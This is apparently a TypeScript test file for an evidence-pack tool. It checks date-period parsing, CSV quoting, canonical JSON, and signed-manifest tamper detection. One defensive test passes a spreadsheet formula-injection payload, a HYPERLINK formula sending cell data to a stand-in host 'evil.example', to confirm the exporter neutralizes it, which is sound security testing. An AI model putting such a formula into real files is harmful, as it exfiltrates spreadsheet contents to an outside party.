// Pieces of the evidence pack that need no running stack: the period parser,
// RFC 4180 output, canonical JSON, and manifest signing and verification on a
// pack written to a temp directory.
import { test } from "node:test";
import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { buildManifest, canonicalJson, loadPackSigner, MANIFEST, parseCsv, parsePeriod, toCsv, verifyPack } from "./index.js";

test("periods: UTC days with an exclusive end, ISO times with zones, and clear errors", () => {
  const p = parsePeriod("2026-11-01", "2026-11-08");
  assert.equal(p.from.toISOString(), "2026-11-01T00:00:00.000Z");
  assert.equal(p.to.toISOString(), "2026-11-08T00:00:00.000Z");
  assert.equal(parsePeriod("2026-11-01T08:30:00+02:00", "2026-11-01T09:00:00.250").from.toISOString(), "2026-11-01T06:30:00.000Z");
  assert.equal(parsePeriod("2026-11-01 08:30", "2026-11-02").from.toISOString(), "2026-11-01T08:30:00.000Z");
  assert.throws(() => parsePeriod("2026-11-01", "2026-11-01"), /--to \(2026-11-01T00:00:00Z\) must be after --from/);
  assert.throws(() => parsePeriod("2026-13-01", "2027-01-01"), /--from "2026-13-01" has month 13/);
  assert.throws(() => parsePeriod("2024-02-29", "2023-02-29"), /--to "2023-02-29" has day 29, but 2023-02 has 28 days/);
  assert.throws(() => parsePeriod("11/01/2026", "2026-11-08"), /--from "11\/01\/2026" is not a date/);
  assert.throws(() => parsePeriod(undefined, "2026-11-08"), /--from is required/);
  assert.throws(() => parsePeriod("2026-11-01T25:00:00Z", "2026-11-08"), /impossible time of day/);
});

test("CSV: header row, CRLF, quoting of commas, quotes and line breaks; lists joined", () => {
  const text = toCsv(["a", "b", "c"], [
    { a: 'say "hi"', b: "x,y", c: "line1\nline2" },
    { a: ["g1", "g2"], b: 3, c: null },
    { a: "plain", b: "ünïcødé", c: "" },
  ]);
  assert.equal(text, 'a,b,c\r\n"say ""hi""","x,y","line1\nline2"\r\ng1; g2,3,\r\nplain,ünïcødé,\r\n');
  assert.deepEqual(parseCsv(text), [["a", "b", "c"], ['say "hi"', "x,y", "line1\nline2"], ["g1; g2", "3", ""], ["plain", "ünïcødé", ""]]);
});

test("CSV: text a spreadsheet would run as a formula is neutralized; numbers are not", () => {
  const text = toCsv(["q", "n"], [
    { q: '=HYPERLINK("http://evil.example/?"&A1,"x")', n: -5 },
    { q: "-- comment\nSELECT 1", n: 0 },
    { q: "+1", n: 1 },
    { q: "@SUM(A1)", n: 2 },
    { q: "SELECT '=x'", n: 3 },
  ]);
  assert.deepEqual(parseCsv(text).slice(1), [
    [`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "-5"],
    ["'-- comment\nSELECT 1", "0"],
    ["'+1", "1"],
    ["'@SUM(A1)", "2"],
    ["SELECT '=x'", "3"],
  ]);
});

test("canonical JSON sorts keys at every level and drops undefined", () => {
  assert.equal(canonicalJson({ b: 1, a: { d: [1, { z: "x", y: true }], c: undefined } }), '{"a":{"d":[1,{"y":true,"z":"x"}]},"b":1}');
  assert.throws(() => canonicalJson({ x: 1.5 }), /not a safe integer/);
});

test("a signed manifest verifies, and every kind of tampering is named", () => {
  const dir = mkdtempSync(join(tmpdir(), "gatehouse-manifest-"));
  try {
    writeFileSync(join(dir, "a.csv"), "x\r\n1\r\n");
    writeFileSync(join(dir, "index.html"), "<p>hi</p>");
    const kp = generateKeyPairSync("ed25519");
    const keyFile = join(dir, "..", `${dir.split("/").pop()}-key.pem`);
    writeFileSync(keyFile, kp.privateKey.export({ type: "pkcs8", format: "pem" }));
    const signer = loadPackSigner(keyFile, {});
    rmSync(keyFile);
    const m = buildManifest(dir, { period: { from: "2026-11-01T00:00:00Z", to: "2026-11-08T00:00:00Z", to_exclusive: true }, generated_at: "2026-11-08T01:00:00Z", deployment: "t", tool: { name: "gatehouse", version: "0" } }, signer);
    writeFileSync(join(dir, MANIFEST), JSON.stringify(m));
    assert.deepEqual(m.files.map((f) => f.path), ["a.csv", "index.html"]);
    const pub = String(kp.publicKey.export({ type: "spki", format: "pem" }));
    assert.deepEqual(verifyPack(dir, pub).problems, []);

    writeFileSync(join(dir, "a.csv"), "x\r\n2\r\n");
    assert.deepEqual(verifyPack(dir, pub).problems.map((p) => p.kind), ["changed file"]);
    writeFileSync(join(dir, "a.csv"), "x\r\n1\r\n");
    writeFileSync(join(dir, "b.txt"), "new");
    assert.deepEqual(verifyPack(dir, pub).problems.map((p) => `${p.kind} ${p.path}`), ["extra file b.txt"]);
    rmSync(join(dir, "b.txt"));
    rmSync(join(dir, "index.html"));
    assert.deepEqual(verifyPack(dir, pub).problems.map((p) => `${p.kind} ${p.path}`), ["missing file index.html"]);
    writeFileSync(join(dir, "index.html"), "<p>hi</p>");
    writeFileSync(join(dir, MANIFEST), JSON.stringify({ ...m, deployment: "other" }));
    assert.deepEqual(verifyPack(dir, pub).problems.map((p) => p.kind), ["bad signature"]);
    writeFileSync(join(dir, MANIFEST), "{not json");
    assert.match(verifyPack(dir, pub).problems[0]!.what, /manifest\.json is not JSON/);
    assert.throws(() => loadPackSigner(join(dir, "nope.pem"), {}), /does not exist \(generate one with: openssl genpkey/);
    assert.equal(loadPackSigner(undefined, {}).source, "generated");
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
